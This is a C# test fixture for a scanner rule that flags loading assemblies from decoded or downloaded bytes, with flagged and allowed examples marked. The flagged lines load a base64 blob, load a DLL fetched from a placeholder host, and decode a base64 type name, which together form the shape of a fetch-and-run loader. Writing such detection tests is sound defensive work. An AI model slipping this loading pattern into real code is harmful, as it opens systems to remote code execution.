// Fixture for csharp.assembly-load-of-decoded-bytes (written for provscan; not from any project).
using System;
using System.IO;
using System.Net;
using System.Reflection;
using System.Text;

namespace Example.Plugins
{
    public static class Loader
    {
        private const string Blob = "TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAAAAAAA";

        public static object Stage(WebClient client, string encodedType)
        {
            // ruleid: csharp.assembly-load-of-decoded-bytes
            var asm = Assembly.Load(Convert.FromBase64String(Blob));
            // ruleid: csharp.assembly-load-of-decoded-bytes
            var other = AppDomain.CurrentDomain.Load(client.DownloadData("http://cdn.example.invalid/p.dll"));
            // ruleid: csharp.assembly-load-of-decoded-bytes
            var t = Type.GetType(Encoding.UTF8.GetString(Convert.FromBase64String(encodedType)));
            return Activator.CreateInstance(t ?? asm.GetTypes()[0] ?? other.GetTypes()[0]);
        }

        public static Assembly Plugin(string directory, string name)
        {
            // ok: csharp.assembly-load-of-decoded-bytes
            var asm = Assembly.LoadFrom(Path.Combine(directory, name + ".dll"));
            // ok: csharp.assembly-load-of-decoded-bytes
            var core = Assembly.Load(new AssemblyName("Example.Core"));
            return core ?? asm;
        }

        public static object Create(string typeName)
        {
            // ok: csharp.assembly-load-of-decoded-bytes
            return Activator.CreateInstance(Type.GetType(typeName, throwOnError: true));
        }
    }
}
